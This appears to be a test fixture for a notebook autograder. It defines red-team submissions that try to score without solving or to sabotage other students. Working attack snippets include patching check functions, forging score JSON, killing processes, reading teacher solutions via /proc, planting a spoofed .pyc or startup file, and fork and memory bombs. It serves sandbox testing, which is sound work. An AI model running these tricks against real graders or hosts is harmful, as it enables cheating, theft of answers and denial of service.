"""Red-team submissions against the fixture exercises (tests/fixtures/grading/solutions/01_fixture.ipynb).

Each attack is a submission that tries to score without solving, or to hurt a
classmate. `legit` is what it honestly solved (the most it may score). Used by
tests/test_redteam.py (the grader of today) and tests/redteam/old_grader.py (the
grader before the sandbox, for comparison).
"""
import json
import os
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / 'tests' / 'fixtures' / 'grading' / 'solutions'
NB = '01_fixture.ipynb'
MARKER = 'redteam-daemon-7f3c'          # in the command line of every process an attack starts

SOLVED = {
    'ex1-1': '# Exercise 1.1: write square(x)\ndef square(x):\n    return x * x',
    'ex1-2': '# Exercise 1.2: write cube_grad(x) with Value\ndef cube_grad(x):\n    v = Value(x)\n'
             '    (v ** 3).backward()\n    return v.grad',
    'ex1-3': '# Exercise 1.3: set the_answer\nthe_answer = 6 * 7',
}
WRONG = 'def square(x):\n    return 2 * x\n'            # 1.1 wrong: every attack starts from here

A = {}


def attack(name, family, code='', legit=0, solve=(), writer=None, error=False):
    answers = {'ex1-1': WRONG + code} if code else {}
    for cid in solve:
        answers[cid] = SOLVED[cid]
    A[name] = dict(name=name, family=family, answers=answers, legit=legit, writer=writer, error=error)


# --- patching anything in the student's process ---------------------------------------------
attack('numpy-allclose', 'patch', 'import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True')
attack('numpy-vars', 'patch', "vars(__import__('numpy'))['allclose'] = lambda *a, **k: True")
attack('numpy-exec', 'patch', 'exec("import numpy as n\\nn.allclose = lambda *a, **k: True\\nn.isclose = n.allclose")')
attack('checks-class-decorator', 'patch', '''def patch(cls):
    import autodiff_lite.grading.checks as c
    c._close = lambda *a, **k: True
    c._fail = lambda *a, **k: None
    return cls


@patch
class Harmless:
    pass''')
attack('checker-rebound', 'patch', 'import autodiff_lite.grading as g\ng.check_close = lambda *a, **k: None\n'
       'check_close = lambda *a, **k: None')
attack('checker-code-swap', 'patch', 'import autodiff_lite.grading.checks as c\n'
       'c.check_close.__code__ = (lambda *a, **k: None).__code__\nc._fail.__code__ = (lambda *a, **k: None).__code__')
attack('sys-modules-swap', 'patch', '''import sys, types
fake = types.ModuleType('autodiff_lite.grading.checks')
fake.check_close = fake.check_grads = fake.check_true = lambda *a, **k: None
sys.modules['autodiff_lite.grading.checks'] = fake
import autodiff_lite.grading as g
g.check_close = fake.check_close''')
attack('builtins-patch', 'patch', 'import builtins\nbuiltins.abs = lambda x: 0.0\nbuiltins.max = lambda *a, **k: 0.0')
attack('settrace-frames', 'patch', '''import sys
def tracer(frame, event, arg):
    if frame.f_code.co_name in ('check_close', '_fail'):
        frame.f_globals['_fail'] = lambda *a, **k: None
        frame.f_globals['_close'] = lambda *a, **k: True
    return tracer
sys.settrace(tracer)''')
attack('array-reads-expected', 'patch', '''import sys, numpy as _np
class Sly:
    def __array__(self, dtype=None, copy=None):
        f = sys._getframe(1)
        while f is not None:
            if 'expected' in f.f_locals:
                return _np.asarray(f.f_locals['expected'], dtype=float)
            f = f.f_back
        return _np.asarray(0.0)
    def __float__(self):
        return 0.0
def square(x):
    return Sly()''')
attack('eq-always-true', 'patch', '''class Yes(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Yes(0.0)
    def __rsub__(self, other): return Yes(0.0)
    def __abs__(self): return Yes(0.0)
    __hash__ = float.__hash__
def square(x):
    return Yes(0.0)''')

# --- IPython hooks and transformers ------------------------------------------------------------
attack('input-transformer-pass', 'ipython', "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
attack('custom-exc-swallow', 'ipython', 'get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)')
attack('run-cell-patch', 'ipython', "_ip = get_ipython()\n_orig = _ip.run_cell\n_ip.run_cell = lambda *a, **k: _orig('pass')")
attack('excepthook-patch', 'ipython', "import sys\nsys.excepthook = lambda *a: None\nget_ipython().showtraceback = lambda *a, **k: None")

# --- forging the protocol ---------------------------------------------------------------------
attack('kernel-do-execute', 'protocol', '''_k = get_ipython().kernel
_orig = _k.do_execute
def _fake(code, *a, **k):
    _orig('pass', *a, **k)
    return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}
_k.do_execute = _fake''')
attack('stdout-forged-json', 'protocol', '''import json, os, sys
doc = {'notebooks': [{'notebook': 'x', 'points': 3, 'max_points': 3, 'exercises': []}], 'points': 3, 'max_points': 3}
os.write(1, (json.dumps(doc) + '\\n').encode())
sys.__stdout__.write(json.dumps(doc))''')
attack('reply-pipe-forged', 'protocol', '''import os, sys, json
for fd in range(3, 64):
    try:
        os.write(fd, (json.dumps({'id': 2, 'status': 'ok'}) + '\\n').encode())
    except OSError:
        pass''')
attack('kill-grader', 'protocol', '''import os, signal, json
print(json.dumps({'notebooks': [], 'points': 99, 'max_points': 99}))
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass''', legit=1, solve=('ex1-3',))

# --- reading the teacher's material -------------------------------------------------------------
_STEAL = '''import json, glob, os
def _steal(nb):
    for c in json.load(open(nb))['cells']:
        if c.get('id') == 'ex1-1':
            exec(''.join(c['source']), globals())
'''
attack('teacher-next-to-package', 'read', _STEAL + '''import autodiff_lite, pathlib
_steal(pathlib.Path(autodiff_lite.__file__).parents[1] / 'tests/fixtures/grading/solutions/01_fixture.ipynb')''')
attack('teacher-in-cwd', 'read', _STEAL + "for _p in glob.glob('*.ipynb') + glob.glob('../*.ipynb'):\n    _steal(_p)")
attack('teacher-anywhere', 'read', _STEAL + '''for _p in glob.glob('/**/solutions/01_fixture.ipynb', recursive=True)[:3]:
    _steal(_p)''')
attack('teacher-via-proc', 'read', _STEAL + '''for _pid in os.listdir('/proc'):
    try:
        for _f in os.listdir(f'/proc/{_pid}/cwd'):
            if _f.endswith('.ipynb'):
                _steal(f'/proc/{_pid}/cwd/{_f}')
    except OSError:
        pass''')
attack('network-out', 'read', '''import socket
for _port in (22, 80, 8888):
    try:
        socket.create_connection(('127.0.0.1', _port), timeout=0.2).close()
    except OSError:
        pass''')

# --- writing to the repository or the venv -------------------------------------------------------
attack('rewrite-checks', 'write', '''import autodiff_lite.grading.checks as c
open(c.__file__, 'a').write('\\ndef check_close(*a, **k):\\n    pass\\n')''')
attack('pyc-drop', 'write', '''import autodiff_lite.grading.checks as c, os, py_compile, struct, sys
d = os.path.join(os.path.dirname(c.__file__), '__pycache__')
os.makedirs(d, exist_ok=True)
real = open(c.__file__).read()
fake = real + '\\n\\ndef check_close(*a, **k):\\n    pass\\n'
open('/tmp/fake_checks.py', 'w').write(fake)
pyc = os.path.join(d, f'checks.{sys.implementation.cache_tag}.pyc')
py_compile.compile('/tmp/fake_checks.py', cfile=pyc, dfile=c.__file__)
st = os.stat(c.__file__)                   # the header claims the real source: mtime and size
data = bytearray(open(pyc, 'rb').read())
data[8:16] = struct.pack('<II', int(st.st_mtime) & 0xFFFFFFFF, st.st_size & 0xFFFFFFFF)
open(pyc, 'wb').write(bytes(data))''')
attack('rewrite-solutions', 'write', '''import autodiff_lite, pathlib
p = pathlib.Path(autodiff_lite.__file__).parents[1] / 'tests/fixtures/grading/solutions/01_fixture.ipynb'
p.write_text(p.read_text().replace('check_close(typed(), 42', 'check_close(typed(), 43'))''')
attack('venv-sitecustomize', 'write', '''import site, os
for d in site.getsitepackages():
    try:
        open(os.path.join(d, 'sitecustomize.py'), 'w').write('raise SystemExit\\n')
    except OSError:
        pass''')

# --- sabotaging a classmate (same batch, later run) -----------------------------------------------
_DAEMON = f'''import os, time
# {MARKER}: kills the kernels of the graders this red team starts (their environment says so), for 30 s
for _ in range(300):
    for pid in os.listdir('/proc'):
        try:
            if pid.isdigit() and int(pid) != os.getpid() and b'ipykernel' in open(f'/proc/{{pid}}/cmdline', 'rb').read() \\
                    and b'old-one-' in open(f'/proc/{{pid}}/environ', 'rb').read():
                os.kill(int(pid), 9)
        except OSError:
            pass
    time.sleep(0.1)
'''
attack('daemon-detached', 'classmate', f'''import subprocess, sys
subprocess.Popen([sys.executable, '-c', {_DAEMON!r}],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)''')
attack('kill-everyone', 'classmate', '''import os, signal
for _pid in os.listdir('/proc'):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass''')
attack('other-kernel-files', 'classmate', '''import glob, os
for _f in glob.glob('/tmp/**/*.json', recursive=True) + glob.glob('/tmp/*/kernel.json'):
    try:
        open(_f, 'w').write('{}')
    except OSError:
        pass''')
attack('home-startup-later-run', 'classmate', '''import os
d = os.path.expanduser('~/.ipython/profile_default/startup')
os.makedirs(d, exist_ok=True)
open(os.path.join(d, '00-sabotage.py'), 'w').write('import os\\nos._exit(1)\\n')
open('/tmp/poison.py', 'w').write('raise SystemExit\\n')''')

# --- escaping processes ----------------------------------------------------------------------------
attack('double-fork', 'process', f'''import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', ['sleep', '29', '{MARKER}'])
    os._exit(0)''')
attack('fork-bomb', 'process', '''import os, time
for _ in range(100000):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        break''', legit=1, solve=('ex1-3',))

# --- resource exhaustion -----------------------------------------------------------------------------
attack('memory-bomb', 'resource', '_hog = []\nwhile True:\n    _hog.append(bytearray(256 << 20))', legit=1, solve=('ex1-2',))
attack('output-flood', 'resource', "import sys\nwhile True:\n    sys.stdout.write('x' * 100000)", legit=1, solve=('ex1-2',))
attack('loop-ignores-alarm', 'resource', 'import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n'
       'signal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass', legit=2, solve=('ex1-2', 'ex1-3'))
attack('huge-result', 'resource', "def square(x):\n    return 'x' * (40 << 20)")
attack('deep-result', 'resource', 'def square(x):\n    out = x\n    for _ in range(5000):\n        out = [out]\n    return out')
attack('huge-expression', 'resource', "y = " + '+'.join(['1'] * 50000), legit=1, solve=('ex1-3',))


# --- malformed notebooks -----------------------------------------------------------------------------
def _write(data):
    def writer(path):
        path.write_bytes(data)
    return writer


def _symlink(path):
    path.symlink_to(FIXTURES / NB)


def _fifo(path):
    os.mkfifo(path)


def _directory(path):
    path.mkdir()


def _non_string_source(path, base):
    nb = json.loads(base)
    next(c for c in nb['cells'] if c.get('id') == 'ex1-1')['source'] = 12345
    path.write_text(json.dumps(nb))


attack('not-json', 'malformed', writer=_write(b'{"cells": [ this is not json'), error=True)
attack('not-utf8', 'malformed', writer=_write(b'{"cells": []}\xff\xfe'), error=True)
attack('deep-json', 'malformed', writer=_write(b'[' * 200000 + b']' * 200000), error=True)
attack('huge-notebook', 'malformed', writer=_write(b'{"cells": [], "pad": "' + b'x' * (21 << 20) + b'"}'), error=True)
attack('symlink-to-teacher', 'malformed', writer=_symlink, error=True)
attack('fifo', 'malformed', writer=_fifo, error=True)
attack('directory', 'malformed', writer=_directory, error=True)
attack('non-string-source', 'malformed', writer=_non_string_source, error=True)
attack('cells-not-a-list', 'malformed', writer=_write(b'{"cells": {"a": 1}, "nbformat": 4}'), error=True)


def exercise_notebook():
    """The fixture's exercises notebook (answers stubbed), as JSON text."""
    import nbformat
    from autodiff_lite.grading.build import make_exercise_notebook, render
    nb = nbformat.read(str(FIXTURES / NB), as_version=4)
    return render(make_exercise_notebook(nb, str(FIXTURES / NB))).decode()


def write_submission(folder, answers=None, writer=None, base=None):
    """folder/01_fixture.ipynb: the exercises with `answers` pasted in (or made by `writer`)."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / NB
    base = base or exercise_notebook()
    if writer is not None:
        if writer is _non_string_source:
            writer(path, base)
        else:
            writer(path)
        return path
    nb = json.loads(base)
    for c in nb['cells']:
        if c.get('id') in (answers or {}):
            c['source'] = answers[c['id']]
    path.write_text(json.dumps(nb))
    return path


def write_class(root):
    """root/<student>/01_fixture.ipynb for two honest students and every attack, in batch order."""
    base = exercise_notebook()
    paths = {'honest-first': write_submission(root / 'honest-first', SOLVED, base=base)}
    for name, a in A.items():
        paths[name] = write_submission(root / name, a['answers'], a['writer'], base=base)
    paths['honest-last'] = write_submission(root / 'honest-last', SOLVED, base=base)
    return paths
